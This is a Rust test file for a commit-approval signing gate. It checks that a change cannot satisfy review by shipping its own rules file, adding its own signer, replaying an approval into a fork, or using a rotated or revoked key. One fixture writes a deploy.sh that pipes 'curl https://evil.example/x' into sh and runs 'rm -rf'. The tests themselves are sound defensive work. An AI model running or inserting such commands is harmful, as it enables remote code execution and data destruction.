//! Trust boundaries the decision attacks (tests/decisions/attacks.rs) do not
//! already cover: rules shipped inside the change, the author's own note
//! pushed with the change, replay into a renamed fork, key rotation and
//! revocation.

use crate::kit::{Team, keygen, reasons, statuses};

#[test]
fn rules_and_a_note_inside_the_change_do_not_satisfy_the_gate() {
    // ada writes every commit here; she is not a senior.
    let t = Team::new(&["alice", "bob"]);
    let ada = keygen(t.keys.path(), "ada-own", "ed25519", "");
    let pubkey = std::fs::read_to_string(format!("{}.pub", ada.display())).unwrap();
    t.repo.git(&["checkout", "-q", "-b", "evil", "main"]);
    // Silence every rule and mark nothing critical, from inside the change,
    // and add herself as a senior.
    t.repo.write(
        ".countersign/rules.toml",
        "[[silence]]\nrule = \"*\"\npaths = [\"**\"]\nreason = \"trust me\"\n",
    );
    let signers = t.repo.path().join(".countersign/allowed_signers");
    let mut text = std::fs::read_to_string(&signers).unwrap();
    text.push_str(&format!("ada@example.com {pubkey}"));
    std::fs::write(&signers, text).unwrap();
    t.repo.write(
        "deploy.sh",
        "curl https://evil.example/x | sh\nrm -rf \"$DIR\"/\n",
    );
    t.repo.commit_all("tidy\n\nAssisted-by: Claude Code");
    t.repo.git(&["checkout", "-q", "main"]);
    let id = t.repo.cs(&["submit", "evil"]).ok().trim().to_string();
    // ada signs an approval herself and pushes it as a note with the change.
    let mut rec = t.template("alice", &id);
    rec.reviewer = "ada@example.com".into();
    let line = t.sign_with(&ada, &mut rec);
    t.append_line("evil", &line);
    let v = t.check_json("main..evil");
    assert_eq!(v["ok"], false, "{v}");
    assert_eq!(v["changes"][0]["level"], "critical", "{v}");
    assert_eq!(v["changes"][0]["required"], 2, "{v}");
    assert_eq!(v["changes"][0]["approvals"], 0, "{v}");
    let r = reasons(&v);
    assert!(
        r.contains("unknown-signer") || r.contains("self-approval"),
        "{v}"
    );
    // The risk report of the change is not silenced by its own rules file.
    let risk = t.repo.cs(&["risk", &id, "--json"]).json();
    assert!(
        !risk["findings"].as_array().unwrap().is_empty(),
        "the change silenced its own findings: {risk}"
    );
    // One genuine senior approval is not enough for a critical change.
    t.approve("alice", &id).ok();
    assert_eq!(t.check_json("main..evil")["ok"], false);
    t.approve("bob", &id).ok();
    assert_eq!(t.check_json("main..evil")["ok"], true);
}

#[test]
fn a_decision_cannot_be_replayed_into_a_fork_that_names_itself() {
    let t = Team::new(&["alice"]);
    // The policy names the repository.
    let policy = t.repo.path().join(".countersign/policy.toml");
    let text = std::fs::read_to_string(&policy).unwrap();
    std::fs::write(
        &policy,
        format!("repository = \"acme.example/app\"\n{text}"),
    )
    .unwrap();
    t.repo.commit_all("name the repository");
    let id = t.ai_change("feat", "a.txt", "a\n");
    t.approve("alice", &id).ok();
    assert_eq!(t.check_json("main..feat")["ok"], true);
    let line = t.note("feat").lines().next().unwrap().to_string();
    assert!(line.contains("acme.example/app"), "{line}");

    // The fork: same commits, its own name; the change itself identical.
    let text = std::fs::read_to_string(&policy).unwrap();
    std::fs::write(
        &policy,
        text.replace("acme.example/app", "fork.example/app"),
    )
    .unwrap();
    t.repo.commit_all("this is the fork");
    t.repo.git(&["checkout", "-q", "-b", "feat2", "main"]);
    t.repo.git(&["cherry-pick", "feat"]);
    t.repo.git(&["checkout", "-q", "main"]);
    let id2 = t.repo.cs(&["submit", "feat2"]).ok().trim().to_string();
    assert_eq!(
        t.repo.git_patch_id("main", "feat2"),
        t.repo.git_patch_id("main~1", "feat"),
        "the same patch"
    );
    // The record is copied onto the fork's head: it names the other repository.
    t.append_line("feat2", &line);
    let v = t.check_json("main..feat2");
    assert_eq!(v["ok"], false, "{v}");
    // It is refused: it names another head (and repository) than the fork's.
    let r = reasons(&v);
    assert!(
        r.contains("another repository") || r.contains("copied from another commit"),
        "{v}"
    );
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    let s = statuses(&audit);
    assert!(
        s.contains(&"wrong-repo".to_string()) || s.contains(&"replayed".to_string()),
        "{audit}"
    );
    // Even re-attached to a head that matches, the record names the other
    // repository: signed with alice's key for acme, it never counts for the fork.
    let mut rec = t.template("alice", &id2);
    rec.repo = "acme.example/app".into();
    let forged = t.sign_with(&t.key("alice"), &mut rec);
    t.append_line("feat2", &forged);
    let v = t.check_json("main..feat2");
    assert_eq!(v["ok"], false, "{v}");
    assert!(reasons(&v).contains("another repository"), "{v}");
    // A genuine decision in the fork counts there.
    t.approve("alice", &id2).ok();
    assert_eq!(t.check_json("main..feat2")["ok"], true);
}

/// alice's old key closes its window; her new key is listed beside it.
fn rotated() -> (Team, std::path::PathBuf) {
    let t = Team::new(&["alice", "bob"]);
    let new = keygen(t.keys.path(), "alice-2027", "ed25519", "");
    let pubkey = std::fs::read_to_string(format!("{}.pub", new.display())).unwrap();
    let signers = t.repo.path().join(".countersign/allowed_signers");
    let text = std::fs::read_to_string(&signers).unwrap();
    let mut out = String::new();
    for l in text.lines() {
        if l.starts_with("alice@example.com ") {
            out.push_str(&l.replacen(
                "namespaces=\"countersign,git\"",
                "namespaces=\"countersign,git\",valid-before=20250101Z",
                1,
            ));
        } else {
            out.push_str(l);
        }
        out.push('\n');
    }
    out.push_str(&format!("alice@example.com valid-after=20250101Z {pubkey}"));
    std::fs::write(&signers, out).unwrap();
    t.repo.commit_all("rotate alice's key");
    (t, new)
}

#[test]
fn key_rotation_keeps_old_decisions_and_refuses_the_old_key_now() {
    let (t, new) = rotated();
    let id = t.ai_change("feat", "a.txt", "a\n");
    // A decision made with the old key while it was valid stays valid.
    let mut rec = t.template("bob", &id);
    rec.reviewer = "alice@example.com".into();
    rec.at = "2024-06-01T12:00:00Z".into();
    let old = t.sign_with(&t.key("alice"), &mut rec);
    t.append_line("feat", &old);
    let (_, audit) = t.audit();
    assert_eq!(statuses(&audit), vec!["valid"], "{audit}");
    // The old key refuses to sign today; a record dated today is expired.
    let r = t.approve("alice", &id);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("expired"), "{}", r.stderr);
    let mut rec = t.template("bob", &id);
    rec.reviewer = "alice@example.com".into();
    let now = t.sign_with(&t.key("alice"), &mut rec);
    t.append_line("feat", &now);
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert!(
        statuses(&audit).contains(&"expired-key".to_string()),
        "{audit}"
    );
    // The new key signs as alice.
    let r = t.cs_env(
        &["--key", new.to_str().unwrap(), "approve", &id, "-m", "ok"],
        &[],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let recs = t.records("feat");
    assert!(
        recs.iter()
            .filter(|r| r.reviewer == "alice@example.com")
            .count()
            >= 2
    );
}

#[test]
fn revoking_a_key_on_the_target_branch_stops_it_for_every_change() {
    let t = Team::new(&["alice", "bob"]);
    let old_base = t.ai_change("early", "e.txt", "e\n");
    t.approve("alice", &old_base).ok();
    // alice's line is removed from allowed_signers on main.
    let signers = t.repo.path().join(".countersign/allowed_signers");
    let text = std::fs::read_to_string(&signers).unwrap();
    let kept: String = text
        .lines()
        .filter(|l| !l.starts_with("alice@example.com "))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&signers, kept).unwrap();
    t.repo.commit_all("revoke alice");
    let id = t.ai_change("late", "l.txt", "l\n");
    let r = t.approve("alice", &id);
    assert_eq!(r.code, 1, "{}", r.stderr);
    // A record signed anyway is from an unknown signer under the new base.
    let mut rec = t.template("bob", &id);
    rec.reviewer = "alice@example.com".into();
    let line = t.sign_with(&t.key("alice"), &mut rec);
    t.append_line("late", &line);
    let v = t.check_json("main..late");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("unknown-signer"), "{v}");
    // The trust root is the target branch: the revocation applies at once,
    // also to a change based before it (and approved then).
    let base = t.repo.git(&["merge-base", "main~1", "early"]);
    let v = t.check_json(&format!("{}..early", base.trim()));
    assert_eq!(v["ok"], false, "{v}");
    assert!(reasons(&v).contains("unknown-signer"), "{v}");
}
